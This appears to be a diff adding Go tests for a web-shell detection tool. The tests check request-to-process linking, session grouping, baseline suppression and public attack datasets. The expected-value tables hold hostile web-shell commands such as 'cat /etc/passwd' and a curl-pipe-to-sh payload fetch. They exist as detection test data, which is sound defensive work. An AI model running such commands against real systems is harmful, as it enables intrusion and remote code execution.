@@ -1,0 +1,325 @@
+package detector_test
+
+import (
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"webshellbeat/config"
+	"webshellbeat/detection"
+	"webshellbeat/detection/session"
+	"webshellbeat/detector"
+	"webshellbeat/hunt"
+)
+
+const data = "../../shared/data/"
+
+func str(doc map[string]any, p string) string { return detection.LookupString(doc, p) }
+
+func val(doc map[string]any, p string) any { v, _ := detection.Lookup(doc, p); return v }
+
+func ids(doc map[string]any) []string { v, _ := val(doc, "webshell.rule_ids").([]string); return v }
+
+// run hunts paths and returns the final alerts: an updated copy replaces
+// the alert it updates, as the hunt command prints them.
+func run(t *testing.T, cfg config.Detection, paths ...string) []map[string]any {
+	t.Helper()
+	det, err := detector.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var alerts []map[string]any
+	byID := map[string]int{}
+	_, err = hunt.Run(paths, det, func(doc map[string]any) {
+		if of := str(doc, "webshell.update_of"); of != "" {
+			if i, ok := byID[of]; ok {
+				alerts[i] = doc
+				return
+			}
+		}
+		if id := str(doc, "webshell.doc_id"); id != "" {
+			byID[id] = len(alerts)
+		}
+		alerts = append(alerts, doc)
+	}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return alerts
+}
+
+func sev(doc map[string]any) int { n, _ := val(doc, "event.severity").(int); return n }
+
+// linux-capture: every attack-command request is linked to the shell it
+// started, both ways; the upload and use of shell.php is one alert; one
+// session per web shell.
+func TestLinuxCapture(t *testing.T) {
+	alerts := run(t, config.Default(), data+"linux-capture")
+	attack := map[string]string{ // url.original -> decoded command
+		"/uploads/shell.php?cmd=whoami": "whoami", "/uploads/shell.php?cmd=id": "id", "/uploads/shell.php?cmd=uname+-a": "uname -a",
+		"/uploads/shell.php?cmd=cat+%2fetc%2fpasswd": "cat /etc/passwd", "/uploads/shell.php?cmd=ps+aux": "ps aux",
+		"/uploads/shell.php?cmd=hostname": "hostname", "/uploads/shell.php?cmd=ls+-la+%2fvar%2fwww": "ls -la /var/www",
+		"/uploads/shell.php?cmd=netstat+-an":                                                        "netstat -an",
+		"/uploads/shell.php?cmd=bash+-c+%27echo+test+%3e+%2ftmp%2fx%3b+cat+%2ftmp%2fx%27":           "bash -c 'echo test > /tmp/x; cat /tmp/x'",
+		"/uploads/shell.php?cmd=sh+-c+%27curl+-s+http%3a%2f%2f127.0.0.1%3a9%2fpayload.sh+%7c+sh%27": "sh -c 'curl -s http://127.0.0.1:9/payload.sh | sh'",
+		"/app/login.php?debug=whoami":                                                               "whoami", "/app/login.php?debug=id+-a": "id -a", "/app/login.php?debug=uname+-r": "uname -r",
+		"/app/login.php?debug=cat+%2fetc%2fhostname": "cat /etc/hostname",
+	}
+	reqDoc := map[string]map[string]any{}
+	procLinked := map[string]bool{}
+	sessions := map[string]map[string]bool{} // script -> session ids
+	uploads := 0
+	for _, a := range alerts {
+		u := str(a, "url.original")
+		switch {
+		case slices.Contains(ids(a), "2f6c1a4e-8d3b-4f7a-9c2e-5b1d0e7a3c91"):
+			uploads++
+			if !strings.HasSuffix(str(a, "file.path"), "/uploads/shell.php") || str(a, "webshell.use.kind") != "request" ||
+				!strings.HasPrefix(str(a, "webshell.request.url.original"), "/uploads/shell.php?cmd=") || val(a, "webshell.upload.by_webserver") != true {
+				t.Errorf("upload alert: file %q use %q request %q by web %v", str(a, "file.path"), str(a, "webshell.use.kind"), str(a, "webshell.request.url.original"), val(a, "webshell.upload.by_webserver"))
+			}
+			if sev(a) != 99 {
+				t.Errorf("upload alert severity %d, want 99 (escalated in its session)", sev(a))
+			}
+		case u != "":
+			reqDoc[u] = a
+		case str(a, "webshell.request.url.original") != "":
+			r := str(a, "webshell.request.url.original")
+			cmd, ok := attack[r]
+			if ok && strings.HasSuffix(str(a, "process.command_line"), cmd) {
+				procLinked[r] = true
+			}
+		}
+		script := str(a, "url.path")
+		if script == "" {
+			script = str(a, "webshell.request.url.path")
+		}
+		if script == "/uploads/shell.php" || script == "/app/login.php" {
+			if sessions[script] == nil {
+				sessions[script] = map[string]bool{}
+			}
+			sessions[script][str(a, "webshell.session.id")] = true
+		}
+	}
+	for u, cmd := range attack {
+		r := reqDoc[u]
+		if r == nil {
+			t.Errorf("%s: no request alert", u)
+			continue
+		}
+		cmds, _ := val(r, "webshell.processes.command_line").([]string)
+		if !slices.ContainsFunc(cmds, func(c string) bool { return strings.HasSuffix(c, cmd) }) {
+			t.Errorf("%s: request lists processes %q, want the shell running %q", u, cmds, cmd)
+		}
+		if !procLinked[u] {
+			t.Errorf("%s: no process alert carries the request", u)
+		}
+	}
+	if uploads != 1 {
+		t.Errorf("%d upload-then-execute alerts, want 1", uploads)
+	}
+	for script, ids := range sessions {
+		if len(ids) != 1 {
+			t.Errorf("%s: sessions %v, want one", script, ids)
+		}
+	}
+	if len(sessions) != 2 || maps(sessions["/uploads/shell.php"]) == maps(sessions["/app/login.php"]) {
+		t.Errorf("sessions %v: want one per web shell", sessions)
+	}
+	full, lowered := 0, 0
+	for _, a := range alerts {
+		if sev(a) > 21 {
+			full++
+		} else {
+			lowered++
+		}
+	}
+	t.Logf("linux-capture: %d alerts, %d at full severity, %d lowered by sessions", len(alerts), full, lowered)
+}
+
+func maps(m map[string]bool) string {
+	for k := range m {
+		return k
+	}
+	return ""
+}
+
+// status.php's `sh -c /usr/bin/uptime` is silenced by an exception, or by
+// the baseline once learnt, and the attack still alerts.
+func TestStatusPageSilenced(t *testing.T) {
+	count := func(alerts []map[string]any) (uptime, attack int) {
+		for _, a := range alerts {
+			switch {
+			case strings.Contains(str(a, "process.command_line"), "uptime"):
+				uptime++
+			case str(a, "webshell.request.url.original") != "" || str(a, "url.original") != "":
+				attack++
+			}
+		}
+		return
+	}
+	_, attack0 := count(run(t, config.Default(), data+"linux-capture"))
+
+	cfg := config.Default()
+	cfg.Exceptions = []session.Exception{{CommandLines: []string{"sh -c /usr/bin/uptime"}, Reason: "status page"}}
+	if up, attack := count(run(t, cfg, data+"linux-capture")); up != 0 || attack != attack0 || attack == 0 {
+		t.Errorf("exception: %d uptime alerts (want 0), %d attack alerts (want %d)", up, attack, attack0)
+	}
+
+	cfg = config.Default()
+	cfg.Baseline = config.Baseline{Enabled: true, LearningPeriod: 10 * time.Second, Action: "suppress", MaxShapes: 100}
+	alerts := run(t, cfg, data+"linux-capture")
+	late := 0
+	for _, a := range alerts {
+		at, _ := a["@timestamp"].(time.Time)
+		if strings.Contains(str(a, "process.command_line"), "uptime") && at.Unix() >= 1795633344 {
+			late++
+		}
+		if str(a, "process.command_line") == "sh -c whoami" && str(a, "webshell.baseline") != "new" {
+			t.Errorf("attack shell baseline %q, want new", str(a, "webshell.baseline"))
+		}
+	}
+	if _, attack := count(alerts); late != 0 || attack != attack0 {
+		t.Errorf("baseline: %d uptime alerts after learning (want 0), %d attack alerts (want %d)", late, attack, attack0)
+	}
+}
+
+// ProxyLogon: the web shell written under the Exchange web root is linked
+// to the w3wp.exe that compiled it and to its cmd.exe; cvtres.exe (ASP.NET
+// compilation) raises no high alert.
+func TestProxyLogon(t *testing.T) {
+	alerts := run(t, config.Default(), data+"OTRF-Security-Datasets/datasets/atomic/windows/persistence/host/proxylogon_ssrf_rce_poc.zip")
+	var upload map[string]any
+	cmds := 0
+	for _, a := range alerts {
+		if slices.Contains(ids(a), "2f6c1a4e-8d3b-4f7a-9c2e-5b1d0e7a3c91") {
+			upload = a
+		}
+		if strings.EqualFold(str(a, "process.name"), "cvtres.exe") && sev(a) >= 73 {
+			t.Errorf("cvtres.exe raised a severity %d alert", sev(a))
+		}
+	}
+	if upload == nil || !strings.HasSuffix(str(upload, "file.path"), `owa\auth\ohyeah.aspx`) || str(upload, "webshell.use.kind") != "compiled" {
+		t.Fatalf("upload alert %v", upload)
+	}
+	for _, a := range alerts {
+		if str(a, "process.name") == "cmd.exe" && str(a, "webshell.webserver.name") == "w3wp.exe" {
+			cmds++
+			if str(a, "webshell.script.path") != str(upload, "file.path") || str(a, "webshell.session.id") != str(upload, "webshell.session.id") {
+				t.Errorf("cmd.exe alert script %q session %q, want %q %q", str(a, "webshell.script.path"), str(a, "webshell.session.id"), str(upload, "file.path"), str(upload, "webshell.session.id"))
+			}
+		}
+	}
+	if cmds == 0 {
+		t.Fatal("no w3wp.exe -> cmd.exe alert")
+	}
+}
+
+// sbousseaden's IIS sample: w3wp.exe -> cmd.exe -> net.exe -> net1.exe
+// carries the whole chain.
+func TestIISGrandchild(t *testing.T) {
+	alerts := run(t, config.Default(), data+"sbousseaden-EVTX-ATTACK-SAMPLES/Lateral Movement/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx")
+	for _, a := range alerts {
+		if str(a, "process.name") != "net1.exe" {
+			continue
+		}
+		names, _ := val(a, "webshell.ancestry.name").([]string)
+		if !slices.Equal(names, []string{"net.exe", "cmd.exe", "w3wp.exe"}) || val(a, "webshell.ancestry.depth") != 3 || str(a, "webshell.webserver.name") != "w3wp.exe" {
+			t.Fatalf("net1.exe ancestry %v depth %v root %q", names, val(a, "webshell.ancestry.depth"), str(a, "webshell.webserver.name"))
+		}
+		if !slices.Contains(ids(a), "3b8f2d6a-5c1e-4a9b-8e7d-2f4c6a1b9d05") {
+			t.Errorf("any-depth rule did not fire: %v", ids(a))
+		}
+		return
+	}
+	t.Fatal("no net1.exe alert")
+}
+
+var base = time.Date(2026, 11, 25, 19, 2, 0, 0, time.UTC)
+
+func shellDoc(sec float64, pid, ppid int, cmd string) map[string]any {
+	return map[string]any{
+		"@timestamp": base.Add(time.Duration(sec * float64(time.Second))),
+		"host":       map[string]any{"name": "web1", "os": map[string]any{"type": "linux"}},
+		"event":      map[string]any{"category": []string{"process"}, "type": []string{"start"}, "module": "auditd"},
+		"process":    map[string]any{"pid": pid, "parent": map[string]any{"pid": ppid}, "executable": "/usr/bin/dash", "name": "dash", "command_line": cmd},
+		"user":       map[string]any{"name": "www-data", "id": "33"},
+	}
+}
+
+func requestDoc(sec int, url, param string) map[string]any {
+	return map[string]any{
+		"@timestamp": base.Add(time.Duration(sec) * time.Second),
+		"host":       map[string]any{"name": "web1"},
+		"event":      map[string]any{"category": []string{"web"}, "module": "apache"},
+		"url":        map[string]any{"original": url, "path": strings.SplitN(url, "?", 2)[0]},
+		"http":       map[string]any{"request": map[string]any{"method": "GET"}, "response": map[string]any{"status_code": 200}},
+		"source":     map[string]any{"ip": "203.0.113.9"},
+		"webshell":   map[string]any{"url": map[string]any{"param_values": []string{param}}},
+	}
+}
+
+// Either arrival order links the request and the process; the later one
+// gets the link in its own document and an updated copy of the earlier
+// document is derived.
+func TestArrivalOrder(t *testing.T) {
+	for _, processFirst := range []bool{false, true} {
+		det, err := detector.New(config.Default())
+		if err != nil {
+			t.Fatal(err)
+		}
+		req, proc := requestDoc(5, "/x.php?c=id", "id"), shellDoc(5.3, 900, 800, "sh -c id")
+		first, second := req, proc
+		if processFirst {
+			first, second = proc, req
+		}
+		det.ProcessAll(first)
+		_, derived := det.ProcessAll(second)
+		if str(proc, "webshell.request.url.original") == "" && !slices.ContainsFunc(derived, func(d detector.Derived) bool {
+			return str(d.Doc, "webshell.request.url.original") == "/x.php?c=id"
+		}) {
+			t.Errorf("processFirst=%v: the process never carries the request", processFirst)
+		}
+		if val(req, "webshell.processes.count") == nil && !slices.ContainsFunc(derived, func(d detector.Derived) bool {
+			return val(d.Doc, "webshell.processes.count") == 1
+		}) {
+			t.Errorf("processFirst=%v: the request never lists the process", processFirst)
+		}
+		for _, d := range derived {
+			if str(d.Doc, "webshell.update_of") == "" {
+				t.Errorf("derived document without update_of: %v", d.Doc)
+			}
+		}
+	}
+}
+
+// A restart restores the process table: a worker known before the restart
+// still roots the ancestry of a shell seen after it.
+func TestRestartWithSavedState(t *testing.T) {
+	cfg := config.Default()
+	cfg.State.Path = filepath.Join(t.TempDir(), "webshellbeat")
+	det, err := detector.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	worker := map[string]any{
+		"@timestamp": base, "host": map[string]any{"name": "web1"},
+		"event":   map[string]any{"category": []string{"file"}, "type": []string{"change"}},
+		"process": map[string]any{"pid": 20926, "parent": map[string]any{"pid": 20359}, "executable": "/usr/sbin/apache2", "name": "apache2"},
+	}
+	det.ProcessAll(worker)
+	if err := det.Save(); err != nil {
+		t.Fatal(err)
+	}
+	det2, err := detector.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	doc := shellDoc(3600, 21000, 20926, "sh -c id")
+	det2.ProcessAll(doc)
+	if str(doc, "webshell.webserver.name") != "apache2" || str(doc, "process.parent.name") != "apache2" {
+		t.Fatalf("after restart: webserver %q parent %q", str(doc, "webshell.webserver.name"), str(doc, "process.parent.name"))
+	}
+}
